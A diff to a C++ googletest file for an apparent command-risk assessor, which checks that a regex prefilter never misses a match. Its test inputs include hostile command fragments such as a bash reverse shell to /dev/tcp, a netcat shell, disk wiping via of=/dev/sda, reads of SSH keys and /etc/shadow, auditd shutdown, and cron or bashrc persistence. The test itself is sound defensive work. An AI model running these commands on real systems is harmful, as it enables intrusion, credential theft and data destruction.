@@ -1,6 +1,7 @@
 #include <gtest/gtest.h>
 
 #include "assess/assessor.hpp"
+#include "corpus.hpp"
 
 namespace mai::assess {
 namespace {
@@ -88,12 +89,19 @@ TEST(Rules, PrefilterNeverRejectsAMatch) {
     }
   ASSERT_GT(regexes.size(), 50u);
   std::vector<std::string> texts = {"bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "-rf /", "enable x.service",
-                                    "0o4755", "-e /bin/sh 1.2.3.4 9", "of=/dev/sda", "~/.ssh/id_rsa"};
-  for (const char* level : {"low", "medium", "high", "blocked"}) {
-    std::string dir = std::string(std::getenv("MAI_SOURCE_DIR") ? std::getenv("MAI_SOURCE_DIR") : ".") +
-                      "/tests/corpus/" + level;
-    // Lines of the generator's own output are enough variety.
-    (void)dir;
+                                    "0o4755", "-e /bin/sh 1.2.3.4 9", "of=/dev/sda", "~/.ssh/id_rsa",
+                                    ">>/etc/hosts", "-F", "u+s /usr/bin/find", "stop auditd", "0", "/etc/shadow",
+                                    "install -y nginx", "--privileged -v /:/host", ">>~/.bashrc", "exec:bash",
+                                    "-c", "-d", "/etc/cron.d/x", "CurrentVersion\\Run", "-a rx/0", "enc -aes-256-cbc"};
+  // Plus every line of the corpus (all the command lines the rules were written for).
+  for (const auto& s : corpus::load()) {
+    size_t p = 0;
+    while (p < s.code.size() && texts.size() < 20000) {
+      size_t e = s.code.find('\n', p);
+      if (e == std::string::npos) e = s.code.size();
+      texts.push_back(s.code.substr(p, e - p));
+      p = e + 1;
+    }
   }
   int matched = 0;
   for (const auto* re : regexes)
